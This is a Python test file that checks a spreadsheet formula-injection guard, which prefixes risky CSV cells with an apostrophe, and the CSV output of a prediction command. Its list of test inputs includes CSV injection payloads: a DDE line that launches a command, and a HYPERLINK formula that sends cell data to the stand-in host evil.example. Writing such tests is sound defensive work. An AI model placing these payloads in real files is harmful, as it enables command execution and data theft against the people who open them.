"""A table of predictions can be opened in a spreadsheet, whatever the ids in it are."""

import csv
from pathlib import Path

import pytest
from support.commands import handle

from colonnade.core.text import inert
from colonnade.data.model import LinearModel, ModelFeature, ModelLabel

MODEL = LinearModel(
    "ab" * 32,
    "squared",
    ModelLabel("y", 0.0, 1.0),
    0.0,
    (ModelFeature("p", "x", 0.0, 1.0, 0.5, 1.0),),
    private=True,
)
BEGINNINGS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
EVIL = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1;"p1")',
    "p1;=1+1",  # where a semicolon ends a cell
    "p1\t@x",
    "p1\n=1",
    "\uff1d1+1",
]
HARMLESS = ["", "p1", "Smith, John", "a-b", "x=y", "1-2", "naïve", "'quoted"]
NUMBERS = ["7", "-7", "+7", "-0.5", "-.5", "+1e5", "-1.5E-3", "007"]


@pytest.mark.parametrize("cell", EVIL)
def test_no_part_of_a_cell_begins_a_formula(cell: str) -> None:
    made = inert(cell)
    for separator in ";,|\t\r\n":
        for part in made.split(separator):
            assert not part.lstrip(" ").startswith(tuple(BEGINNINGS)), part
    assert made.replace("'", "") == cell.replace("'", "")  # an apostrophe is all that is added


@pytest.mark.parametrize("cell", [*HARMLESS, *NUMBERS])
def test_numbers_and_plain_texts_stay_as_they_are(cell: str) -> None:
    assert inert(cell) == cell


def test_predict_writes_ids_and_their_heading_as_text(tmp_path: Path) -> None:
    (tmp_path / "model.json").write_text(MODEL.to_json())
    heading = "=id"
    with (tmp_path / "t.csv").open("w", newline="") as file:
        csv.writer(file, quoting=csv.QUOTE_ALL).writerows(
            [[heading, "x"], *([cell, "0.5"] for cell in (*EVIL, *NUMBERS, "p1"))]
        )
    options = ["--model", tmp_path / "model.json", "--data", tmp_path / "t.csv"]
    assert handle("predict", *options, "--id", heading, "--out", tmp_path / "p.csv") == 0
    with (tmp_path / "p.csv").open(newline="") as file:
        (first, _), *rows = list(csv.reader(file))
    assert first == "'=id"
    cells = [cell for cell, _ in rows]
    assert cells[len(EVIL) :] == [*NUMBERS, "p1"]
    assert all(not cell.startswith(tuple(BEGINNINGS)) for cell in cells[: len(EVIL)])
